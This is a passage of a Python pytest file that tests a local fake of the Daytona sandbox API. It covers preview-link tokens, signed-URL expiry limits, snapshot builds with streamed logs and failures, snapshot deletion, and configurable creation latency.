            assert r.status == 307  # a token is good for its own port only

        link = await sandbox.get_preview_link(port)  # the standard link needs its token
        async with http.get(link.url, allow_redirects=False) as r:
            assert r.status == 307
        async with http.get(link.url, headers={"X-Daytona-Preview-Token": link.token}) as r:
            assert r.status == 200 and await r.text() == "hello"

        await sandbox.stop()
        async with http.get((await sandbox.create_signed_preview_url(port)).url) as r:
            assert r.status == 400 and "no IP address found" in (await r.json())["message"]
        await sandbox.start()
        assert (await sandbox.get_preview_link(port)).token != link.token  # new token at each start

    for seconds in (0, 86401):
        with pytest.raises(DaytonaBadRequestError, match="expiresInSeconds must be between 1 second and 24 hours"):
            await sandbox.create_signed_preview_url(port, expires_in_seconds=seconds)
    assert (await sandbox.create_signed_preview_url(port, expires_in_seconds=86400)).port == port


# --------------------------------------------------------------------------- snapshot builds (§16)


def _lines(logs: list[str]) -> list[str]:
    """on_logs gets network chunks (stripped), which may hold several log lines."""
    return [line for chunk in logs for line in chunk.splitlines()]


async def test_snapshot_build_streams_its_log_ends_active_and_serves_sandboxes(
    daytona_double: DaytonaDouble, claude_bin_dir: Path
) -> None:
    double = daytona_double
    image = Image.debian_slim("3.12").run_commands(
        "npm install -g --no-audit @anthropic-ai/claude-code@2.1.332").env({"IMAGE_FLAVOUR": "pinned one"})
    async with AsyncDaytona(DaytonaConfig(api_key=double.api_key, api_url=double.api_url)) as client:
        logs: list[str] = []
        built = await client.snapshot.create(CreateSnapshotParams(name="maison-test", image=image),
                                             on_logs=logs.append, timeout=30)
        assert built.state == "active" and built.name == "maison-test"
        lines = _lines(logs)
        assert lines[:2] == ["Creating snapshot maison-test (SnapshotState.PENDING)",
                             "Creating snapshot maison-test (SnapshotState.BUILDING)"]
        assert "#4 [1/6] FROM docker.io/library/python:3.12.10-slim-bookworm" in lines
        assert "#9 [6/6] RUN npm install -g --no-audit @anthropic-ai/claude-code@2.1.332" in lines
        assert lines[-2:] == ["#10 exporting to image", "Created snapshot maison-test (SnapshotState.ACTIVE)"]
        spec = double.snapshots["maison-test"]
        assert spec.dockerfile == image.dockerfile() and "@anthropic-ai/claude-code@2.1.332" in spec.dockerfile
        got = await client.snapshot.get(built.id)
        assert got.build_info is not None and got.build_info.dockerfile_content == image.dockerfile()

        sandbox = await client.create(CreateSandboxFromSnapshotParams(snapshot="maison-test"))
        res = await sandbox.process.exec('command -v claude; echo "$IMAGE_FLAVOUR"')
        assert res.result == f"{claude_bin_dir}/claude\npinned one\n"

        with pytest.raises(DaytonaConflictError, match='Snapshot with name "maison-test" already exists'):
            await client.snapshot.create(CreateSnapshotParams(name="maison-test", image=image))
        with pytest.raises(DaytonaBadRequestError, match='Images with tag ":latest" are not allowed'):
            await client.snapshot.create(CreateSnapshotParams(name="pulled", image="ubuntu:latest"))

        await client.snapshot.delete(built)
        assert (await client.snapshot.get("maison-test")).state == "removing"
        with pytest.raises(DaytonaBadRequestError, match="Snapshot maison-test is removing"):
            await client.create(CreateSandboxFromSnapshotParams(snapshot="maison-test"))
        await asyncio.sleep(double.start_delay * 3)
        with pytest.raises(DaytonaNotFoundError):
            await client.snapshot.get("maison-test")
        assert (await sandbox.process.exec("echo still")).result == "still\n"


async def test_failing_builds_end_in_error_or_build_failed(double: DaytonaDouble, client: AsyncDaytona) -> None:
    double.fail_builds("npm install", output=["npm error 404 Not Found - GET https://registry.npmjs.org/nope"])
    image = Image.debian_slim("3.12").run_commands("npm install -g nope", "echo after")
    logs: list[str] = []
    reason = 'process "/bin/sh -c npm install -g nope" did not complete successfully: exit code: 1'
    with pytest.raises(DaytonaError, match=re.escape(f"Failed to create snapshot broken, reason: {reason}")):
        await client.snapshot.create(CreateSnapshotParams(name="broken", image=image), on_logs=logs.append)
    lines = _lines(logs)
    assert lines[-2:] == ["npm error 404 Not Found - GET https://registry.npmjs.org/nope", f"ERROR: {reason}"]
    assert not any("echo after" in line for line in lines)
    assert (double.snapshots["broken"].state, double.snapshots["broken"].error_reason) == ("error", reason)
    with pytest.raises(DaytonaBadRequestError, match="Snapshot broken is error"):
        await client.create(CreateSandboxFromSnapshotParams(snapshot="broken"))

    double.fail_builds(state="build_failed", reason="runner refused the build")
    with pytest.raises(DaytonaError, match="Failed to create snapshot refused, reason: runner refused the build"):
        await client.snapshot.create(CreateSnapshotParams(name="refused", image=Image.debian_slim("3.12")))
    assert double.snapshots["refused"].state == "build_failed"


# --------------------------------------------------------------------------- latency


async def test_creation_latency_is_configurable() -> None:
    async with DaytonaDouble(create_delay=0.3, start_delay=0.1) as double:
        async with AsyncDaytona(DaytonaConfig(api_key=double.api_key, api_url=double.api_url)) as client:
            started = time.monotonic()
            sandbox = await client.create(params())
            assert time.monotonic() - started >= 0.4  # creating 0.3 s, then starting 0.1 s
            assert sandbox.state == "started"
            headers = {"Authorization": f"Bearer {double.api_key}"}
            async with aiohttp.ClientSession(headers=headers) as http:
                async with http.post(f"{double.api_url}/sandbox", json={"snapshot": "daytona-small"}) as r:
                    assert (await r.json())["state"] == "creating"
